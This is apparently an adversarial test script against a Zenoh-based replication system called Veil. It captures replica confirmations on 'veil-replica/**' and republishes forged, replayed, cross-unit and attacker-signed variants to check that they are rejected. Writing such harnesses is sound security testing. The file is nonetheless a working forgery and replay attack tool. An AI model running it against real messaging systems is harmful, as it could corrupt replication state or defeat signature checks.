#!/usr/bin/env python3
# SPDX-License-Identifier: MIT OR Apache-2.0
"""An attacker on the mesh forging a replica's confirmations (written against the PyPI
`eclipse-zenoh` and `cryptography` packages, not Veil's code): it listens to the real
confirmations on `veil-replica/**` for LISTEN seconds, then for ATTACK seconds publishes, for
each confirmation it heard,

  - the same confirmation with its sequence number raised by 1,000 (the replica's signature,
    now over other bytes),
  - the same confirmation on another chain unit's key (a cross-unit replay),
  - the same confirmation unchanged (a stale replay: it may only confirm what was confirmed),
  - a confirmation signed with the attacker's own Ed25519 key, on the replica's key and on its
    own key (an unlisted replica),

and prints {"captured", "published", "units"} as one JSON object.

    forge_confirmations.py CONFIG LISTEN ATTACK
"""
import json
import sys
import time

import zenoh
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey


def main():
    config, listen, attack = sys.argv[1], float(sys.argv[2]), float(sys.argv[3])
    zenoh.init_log_from_env_or("error")
    session = zenoh.open(zenoh.Config.from_file(config))
    heard = {}

    def on_sample(sample):
        heard[str(sample.key_expr)] = sample.payload.to_bytes()

    subscriber = session.declare_subscriber("veil-replica/**", on_sample)
    time.sleep(listen)
    subscriber.undeclare()
    captured = dict(heard)

    stranger = Ed25519PrivateKey.generate()
    stranger_public = stranger.public_key().public_bytes_raw().hex()
    forgeries = []
    keys = sorted(captured)
    for i, key in enumerate(keys):
        ack = json.loads(captured[key])
        raised = dict(ack, seq=ack["seq"] + 1000)
        forgeries.append((key, json.dumps(raised)))
        if len(keys) > 1:
            forgeries.append((keys[(i + 1) % len(keys)], json.dumps(ack)))
        forgeries.append((key, captured[key]))
        signed = dict(ack, seq=ack["seq"] + 1000)
        signed["signature"] = stranger.sign(json.dumps(signed).encode()).hex()
        forgeries.append((key, json.dumps(signed)))
        _, _, rest = key.split("/", 2)
        forgeries.append((f"veil-replica/{stranger_public}/{rest}", json.dumps(signed)))

    published = 0
    end = time.monotonic() + attack
    while time.monotonic() < end:
        for key, payload in forgeries:
            session.put(key, payload, congestion_control=zenoh.CongestionControl.BLOCK)
            published += 1
        time.sleep(0.2)
    session.close()
    print(json.dumps({"captured": len(captured), "published": published, "units": keys}))


if __name__ == "__main__":
    main()
